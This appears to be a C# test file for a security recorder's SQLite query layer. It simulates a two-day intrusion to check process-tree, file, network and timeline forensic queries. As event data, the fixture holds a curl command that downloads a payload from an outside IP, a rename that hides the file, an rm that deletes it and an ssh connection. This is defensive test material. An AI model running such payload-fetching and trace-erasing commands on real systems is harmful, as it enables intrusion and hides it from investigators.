using Recorder.Plugins.Sinks.Sqlite.Queries;

namespace Recorder.Plugins.Sinks.Sqlite.Tests;

/// <summary>
/// A known intrusion over two days, stored in two partitions: curl (PID 3000) downloads a payload, python reads and
/// hides it; the next day PID 3000 is reused by rm, which deletes it.
/// </summary>
public sealed class QueryTests : IClassFixture<QueryTests.Scenario>
{
    public sealed class Scenario : IDisposable
    {
        public static readonly DateTime Day1 = new(2026, 11, 20, 10, 0, 0, DateTimeKind.Utc);
        public static readonly DateTime Day2 = new(2026, 11, 21, 9, 0, 0, DateTimeKind.Utc);
        private readonly TempDirectory _dir = new();

        public Scenario()
        {
            Init = Events.Process(1, "/sbin/init", "/sbin/init", "root", null, Day1.AddDays(-3));
            Sshd = Events.Process(700, "/usr/sbin/sshd", "/usr/sbin/sshd -D", "root", Init, Day1.AddDays(-3));
            Bash = Events.Process(1200, "/bin/bash", "-bash", "alice", Sshd, Day1.AddMinutes(-10));
            Curl = Events.Process(3000, "/usr/bin/curl", "curl -o /tmp/payload http://93.184.216.34/x", "alice", Bash, Day1.AddSeconds(5));
            Python = Events.Process(3001, "/usr/bin/python3", "python3 stage.py", "alice", Bash, Day1.AddSeconds(10));
            Rm = Events.Process(3000, "/usr/bin/rm", "rm -f /tmp/.hidden", "alice", Bash, Day2);
            Ssh = Events.Process(3002, "/usr/bin/ssh", "ssh admin@10.0.0.9", "alice", Bash, Day2.AddSeconds(5));

            var rename = Events.File(EventSchemas.FileRename, Python, Day1.AddSeconds(12), "/tmp/.hidden");
            rename["file.old_path"] = "/tmp/payload";
            Path = _dir.File("recorder.db");
            var sink = StoreTestHelpers.Sink(Path, new FakePluginServices(_dir.Path));
            sink.WriteBatchAsync(
            [
                Events.Start(Bash, Bash.Start),
                Events.Start(Curl, Curl.Start),
                Events.Connect(Curl, Day1.AddSeconds(6), "93.184.216.34", 80),
                Events.File(EventSchemas.FileCreate, Curl, Day1.AddSeconds(7), "/tmp/payload"),
                Events.File(EventSchemas.FileWrite, Curl, Day1.AddSeconds(7.5), "/tmp/payload"),
                Events.Start(Python, Python.Start),
                Events.File(EventSchemas.FileRead, Python, Day1.AddSeconds(11), "/tmp/payload"),
                rename,
            ], default).AsTask().GetAwaiter().GetResult();
            sink.WriteBatchAsync(
            [
                Events.Start(Rm, Rm.Start),
                Events.File(EventSchemas.FileDelete, Rm, Day2.AddSeconds(1), "/tmp/.hidden"),
                Events.Start(Ssh, Ssh.Start),
                Events.Connect(Ssh, Day2.AddSeconds(6), "10.0.0.9", 22),
            ], default).AsTask().GetAwaiter().GetResult();
            sink.ShutdownAsync(default).AsTask().GetAwaiter().GetResult();
        }

        public string Path { get; }
        public Events.Proc Init { get; }
        public Events.Proc Sshd { get; }
        public Events.Proc Bash { get; }
        public Events.Proc Curl { get; }
        public Events.Proc Python { get; }
        public Events.Proc Rm { get; }
        public Events.Proc Ssh { get; }

        public void Dispose() => _dir.Dispose();
    }

    private readonly Scenario _s;
    public QueryTests(Scenario scenario) => _s = scenario;

    private static List<object?[]> Rows(QueryResult result) => result.ToList();
    private static object? Col(QueryResult result, object?[] row, string column) => row[result.Columns.ToList().IndexOf(column)];

    [Fact]
    public void The_scenario_spans_two_partitions()
    {
        using var store = RecorderStore.Open(_s.Path);
        Assert.Equal(2, store.Partitions.Count);
        Assert.Equal(12L, store.Query("SELECT count(*) FROM events").ToList()[0][0]);
    }

    [Fact]
    public void Tree_by_guid_shows_ancestors_with_users_and_command_lines()
    {
        using var store = RecorderStore.Open(_s.Path);
        var tree = new StoreQueries(store).Tree(_s.Curl.Guid.ToString());
        Assert.NotNull(tree.Root);
        Assert.Equal("curl -o /tmp/payload http://93.184.216.34/x", tree.Root!.CommandLine);
        Assert.Equal("alice", tree.Root.UserName);
        Assert.Equal([_s.Bash.Guid, _s.Sshd.Guid, _s.Init.Guid], tree.Ancestors.Select(a => a.Guid));
        Assert.Equal("-bash", tree.Ancestors[0].CommandLine);
        // sshd and init left no events of their own: what their descendants knew about them is shown.
        Assert.Equal("/usr/sbin/sshd", tree.Ancestors[1].Path);
        Assert.Equal("/usr/sbin/sshd -D", tree.Ancestors[1].CommandLine);
        Assert.Equal("root", tree.Ancestors[1].UserName);
        Assert.Equal(1L, tree.Ancestors[2].Pid);
        Assert.Empty(tree.Descendants);
    }

    [Fact]
    public void Tree_shows_descendants_of_a_process()
    {
        using var store = RecorderStore.Open(_s.Path);
        var tree = new StoreQueries(store).Tree(_s.Bash.Guid.ToString());
        Assert.Equal(new[] { _s.Curl.Guid, _s.Python.Guid, _s.Rm.Guid, _s.Ssh.Guid }.OrderBy(g => g), tree.Descendants.Select(d => d.Guid).OrderBy(g => g));
        var rows = tree.ToResult().ToList();
        Assert.Equal("ancestor", rows[0][0]);
        Assert.Equal(1200L, rows.Single(r => (string)r[0]! == "process")[1]);
        Assert.Equal(4, rows.Count(r => (string)r[0]! == "descendant"));
    }

    [Fact]
    public void Tree_of_a_process_known_only_from_its_children()
    {
        using var store = RecorderStore.Open(_s.Path);
        var tree = new StoreQueries(store).Tree(_s.Sshd.Guid.ToString());
        Assert.Equal("/usr/sbin/sshd -D", tree.Root!.CommandLine);
        Assert.Equal(700L, tree.Root.Pid);
        Assert.Equal([_s.Init.Guid], tree.Ancestors.Select(a => a.Guid));
        Assert.Contains(tree.Descendants, d => d.Guid == _s.Bash.Guid);
        Assert.Equal(5, tree.Descendants.Count); // bash and its four children
    }

    [Fact]
    public void A_reused_pid_is_never_confused()
    {
        using var store = RecorderStore.Open(_s.Path);
        var queries = new StoreQueries(store);

        var ambiguous = queries.Tree("3000");
        Assert.Null(ambiguous.Root);
        Assert.Equal([_s.Curl.Guid, _s.Rm.Guid], ambiguous.Candidates.Select(c => c.Guid));
        Assert.Contains("--at", ambiguous.Message);

        Assert.Equal(_s.Curl.Guid, queries.Tree("3000", Scenario.Day1.AddMinutes(30)).Root!.Guid);
        Assert.Equal(_s.Rm.Guid, queries.Tree("3000", Scenario.Day2.AddMinutes(1)).Root!.Guid);
        Assert.Null(queries.Tree("3000", Scenario.Day1.AddDays(-1)).Root);
        Assert.Equal(_s.Python.Guid, queries.Tree("3001").Root!.Guid);
        Assert.Null(queries.Tree("99999").Root);
    }

    [Fact]
    public void File_lists_every_process_that_touched_a_path_newest_first()
    {
        using var store = RecorderStore.Open(_s.Path);
        var queries = new StoreQueries(store);
        var payload = queries.File("/tmp/payload");
        var rows = Rows(payload);
        Assert.Equal(["file.rename", "file.read", "file.write", "file.create"], rows.Select(r => (string)Col(payload, r, "type")!));
        Assert.Equal([3001L, 3001L, 3000L, 3000L], rows.Select(r => (long)Col(payload, r, "pid")!));
        Assert.Equal(_s.Curl.Guid.ToString(), Col(payload, rows[3], "process_guid"));
        Assert.Contains("file.old_path=/tmp/payload", (string)Col(payload, rows[0], "details")!);
        Assert.Equal("2026-11-20T10:00:12.0000000Z", Col(payload, rows[0], "time"));
        Assert.Null(payload.Note);

        // The rename (day 1) and the delete (day 2) are in different partitions.
        var hidden = queries.File("/tmp/.hidden");
        var hiddenRows = Rows(hidden);
        Assert.Equal(["file.delete", "file.rename"], hiddenRows.Select(r => (string)Col(hidden, r, "type")!));
        Assert.Equal("rm -f /tmp/.hidden", Col(hidden, hiddenRows[0], "command_line"));
        Assert.Equal("alice", Col(hidden, hiddenRows[0], "user"));
        Assert.Empty(Rows(queries.File("/tmp/never")));
    }

    [Fact]
    public void Net_filters_by_remote_address_and_by_process()
    {
        using var store = RecorderStore.Open(_s.Path);
        var queries = new StoreQueries(store);
        var byRemote = queries.Network(remoteAddress: "93.184.216.34");
        var row = Assert.Single(Rows(byRemote));
        Assert.Equal("93.184.216.34:80", Col(byRemote, row, "remote"));
        Assert.Equal(3000L, Col(byRemote, row, "pid"));
        Assert.Equal("/usr/bin/curl", Col(byRemote, row, "process"));

        var byProcess = queries.Network(process: _s.Ssh.Guid);
        Assert.Equal("10.0.0.9:22", Col(byProcess, Assert.Single(Rows(byProcess)), "remote"));
        Assert.Empty(Rows(queries.Network(process: _s.Ssh.Guid, remoteAddress: "93.184.216.34")));
        Assert.Equal(2, Rows(queries.Network()).Count);
    }

    [Fact]
    public void Timeline_returns_a_window_in_time_order_optionally_by_type()
    {
        using var store = RecorderStore.Open(_s.Path);
        var queries = new StoreQueries(store);
        var window = queries.Timeline(Scenario.Day1.AddSeconds(6), Scenario.Day1.AddSeconds(11));
        Assert.Equal(["network.connect", "file.create", "file.write", "process.start", "file.read"],
            Rows(window).Select(r => (string)Col(window, r, "type")!));
        var across = queries.Timeline(Scenario.Day1, Scenario.Day2.AddHours(1), [EventTypes.ProcessStart]);
        Assert.Equal([3000L, 3001L, 3000L, 3002L], Rows(across).Select(r => (long)Col(across, r, "pid")!));
        var limited = queries.Timeline(Scenario.Day1.AddDays(-1), Scenario.Day2.AddDays(1), limit: 3);
        Assert.Equal(3, Rows(limited).Count);
        Assert.NotNull(limited.Note);
    }

    [Fact]
    public void Sql_sees_one_view_per_type_across_partitions_and_formats_rows()
    {
        using var store = RecorderStore.Open(_s.Path);
        var result = store.Query("SELECT process_pid, process_cmd, event_time FROM process_start ORDER BY event_time");
        var text = new StringWriter();
        ResultWriter.Write(result, ResultFormat.Csv, text);
        var lines = text.ToString().Split('\n', StringSplitOptions.RemoveEmptyEntries);
        Assert.Equal("process_pid,process_cmd,event_time", lines[0].TrimEnd('\r'));
        Assert.Equal(6, lines.Length);
        Assert.StartsWith("3000,curl -o /tmp/payload http://93.184.216.34/x,2026-11-20T10:00:05", lines[2]);

        text = new StringWriter();
        ResultWriter.Write(store.Query("SELECT file_path, file_old_path, process_user_name FROM file_rename"), ResultFormat.Jsonl, text);
        Assert.Equal("{\"file_path\":\"/tmp/.hidden\",\"file_old_path\":\"/tmp/payload\",\"process_user_name\":\"alice\"}", text.ToString().Trim());

        text = new StringWriter();
        ResultWriter.Write(store.Query("SELECT network_remote_address AS remote, network_remote_port AS port FROM network_connect ORDER BY event_time"), ResultFormat.Table, text);
        Assert.Contains("93.184.216.34  80", text.ToString());
        Assert.Contains("(2 rows)", text.ToString());
    }
}
